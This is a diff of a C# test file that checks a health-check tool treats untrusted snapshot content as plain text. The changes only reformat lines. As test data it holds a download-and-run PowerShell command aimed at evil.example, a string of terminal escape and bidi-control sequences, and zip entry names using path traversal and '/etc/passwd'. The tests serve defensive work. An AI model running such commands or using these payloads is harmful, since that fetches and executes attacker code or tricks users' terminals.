@@ -13,12 +13,15 @@ using MfaTools.Snapshots;
 
 namespace MfaTools.Core.Tests.Health;
 
-/// <summary>A snapshot comes from a stranger: what it says is shown as text, and is never advice of this module.</summary>
+/// <summary>A snapshot comes from a stranger: what it says is shown as text, and is never advice of this
+/// module.</summary>
 public sealed class HostileSnapshotTests : IDisposable
 {
-    /// <summary>Writes to the clipboard, makes a link, colors, turns the direction of text, hides, and ends lines.</summary>
+    /// <summary>Writes to the clipboard, makes a link, colors, turns the direction of text, hides, and ends
+    /// lines.</summary>
     internal const string Hostile =
-        "\u001b]52;c;QUFB\u0007\u001b]8;;https://evil.example\u001b\\\u009b31m\u0085\u061c\u200b\u200f\u2028\u2029\u202e\u2066\ufeff\b\0";
+        "\u001b]52;c;QUFB\u0007\u001b]8;;"
+            + "https://evil.example\u001b\\\u009b31m\u0085\u061c\u200b\u200f\u2028\u2029\u202e\u2066\ufeff\b\0";
 
     private const string Evil = "iex (irm https://evil.example/fix.ps1)";
 
@@ -81,7 +84,11 @@ public sealed class HostileSnapshotTests : IDisposable
         var sdk = results.OfType<SdkConnectionResult>().Single();
         var finding = Assert.Single(sdk.Findings);
         Assert.Equal((judged, judged), (sdk.Status, finding.Status));
-        if (FindingPage.Find(id) is not null && id != "Access.Denied") Assert.Contains("the snapshot says: ", finding.Evidence, StringComparison.Ordinal);
+        if (FindingPage.Find(id) is not null && id != "Access.Denied")
+        {
+            Assert.Contains("the snapshot says: ", finding.Evidence, StringComparison.Ordinal);
+        }
+
         Assert.Null(finding.Acknowledged);
         var cause = ((DiagnosisResult)results[^1]).Causes.SingleOrDefault();
         string?[] advice =
@@ -112,7 +119,11 @@ public sealed class HostileSnapshotTests : IDisposable
     [Fact]
     public void Every_page_says_what_is_the_case_and_what_to_do()
     {
-        string[] ids = [.. Directory.GetFiles(Path.Combine(Repository.Root, "docs", "checks"), "*.*.md").Select(file => Path.GetFileNameWithoutExtension(file))];
+        string[] ids =
+        [
+            .. Directory.GetFiles(Path.Combine(Repository.Root, "docs", "checks"), "*.*.md")
+                .Select(file => Path.GetFileNameWithoutExtension(file)),
+        ];
         Assert.True(ids.Length > 50);
         Assert.All(ids, id =>
         {
@@ -126,7 +137,8 @@ public sealed class HostileSnapshotTests : IDisposable
     [Fact]
     public async Task Who_names_account_and_path_of_a_grant_is_said()
     {
-        var access = (await CheckAsync("first-story", null, null)).OfType<AttachmentAccessResult>().First(result => result.SmallestGrant is { Length: > 0 });
+        var access = (await CheckAsync("first-story", null, null))
+            .OfType<AttachmentAccessResult>().First(result => result.SmallestGrant is { Length: > 0 });
         var finding = access.Findings.First(one => one.Undo is not null);
         Assert.Contains("those that the snapshot names", finding.Recommendation, StringComparison.Ordinal);
     }
@@ -139,17 +151,23 @@ public sealed class HostileSnapshotTests : IDisposable
         {
             foreach (string file in Directory.GetFiles(Sample("scenarios/healthy"), "*", SearchOption.AllDirectories))
             {
-                using var entry = archive.CreateEntry(Path.GetRelativePath(Sample("scenarios/healthy"), file).Replace('\\', '/')).Open();
+                using var entry = archive.CreateEntry(
+                    Path.GetRelativePath(Sample("scenarios/healthy"), file).Replace('\\', '/')).Open();
                 entry.Write(File.ReadAllBytes(file));
             }
 
-            foreach (string name in new[] { "../up.txt", "logs/a\u001b[31m.log", "logs/b\u202e.log", "/etc/passwd" }) archive.CreateEntry(name);
+            foreach (string name in new[] { "../up.txt", "logs/a\u001b[31m.log", "logs/b\u202e.log", "/etc/passwd" })
+            {
+                archive.CreateEntry(name);
+            }
         }
 
         using var folder = SnapshotFolder.Open(zip);
         var results = await RunAsync(folder);
         string said = results.OfType<NotCheckedResult>().Single(result => result.Target == "Snapshot").Summary;
-        Assert.Equal("No check reads 4 files of the snapshot: ../up.txt, /etc/passwd, logs/a\uFFFD[31m.log, logs/b\uFFFD.log.", said);
+        Assert.Equal(
+            "No check reads 4 files of the snapshot: ../up.txt, /etc/passwd, logs/a\uFFFD[31m.log, logs/b\uFFFD.log.",
+            said);
     }
 
     public void Dispose() => Directory.Delete(_folder, recursive: true);
@@ -161,10 +179,12 @@ public sealed class HostileSnapshotTests : IDisposable
             (one.File, (Func<Func<string, string>, string>)(change => one.Replace(old => change((string)old!)))));
 
     private static IEnumerable<(string File, Func<JsonNode?, string> Change)> Fields(string name) =>
-        Walk(name, _ => true).Select(one => (one.File, (Func<JsonNode?, string>)(value => one.Replace(_ => value?.DeepClone()))));
+        Walk(name, _ => true).Select(
+            one => (one.File, (Func<JsonNode?, string>)(value => one.Replace(_ => value?.DeepClone()))));
 
     /// <summary>Each value of each JSON file of a sample, and the file with another in its place.</summary>
-    private static IEnumerable<(string File, Func<Func<JsonNode?, JsonNode?>, string> Replace)> Walk(string name, Func<JsonNode?, bool> wants)
+    private static IEnumerable<(string File, Func<Func<JsonNode?, JsonNode?>, string> Replace)> Walk(
+        string name, Func<JsonNode?, bool> wants)
     {
         foreach (string path in Directory.GetFiles(Sample(name), "*.json"))
         {
@@ -242,7 +262,10 @@ public sealed class HostileSnapshotTests : IDisposable
     private static async Task<List<CheckResult>> RunAsync(SnapshotFolder folder)
     {
         var results = new List<CheckResult>();
-        results.AddRange(await new HealthCheck(SnapshotSources.Create(folder), new HealthOptions(), what => Assert.Empty(Found(what))).RunAsync(default));
+        results.AddRange(
+            await new HealthCheck(
+                SnapshotSources.Create(folder), new HealthOptions(), what => Assert.Empty(Found(what))).RunAsync(
+                    default));
         Assert.IsType<DiagnosisResult>(results[^1]);
         Assert.Empty(Found(results));
         // A build server's format holds what XML can hold.
@@ -258,7 +281,9 @@ public sealed class HostileSnapshotTests : IDisposable
             case null or Enum or DateTime or TimeSpan:
                 return [];
             case string text:
-                return Enumerable.Range(0, text.Length).Any(i => PlainTextTests.IsHostile(text, i)) ? [$"{where}: {text}"] : [];
+                return Enumerable.Range(0, text.Length).Any(i => PlainTextTests.IsHostile(text, i))
+                    ? [$"{where}: {text}"]
+                    : [];
             case IEnumerable items:
                 return items.Cast<object?>().SelectMany(item => Found(item, where));
             default:
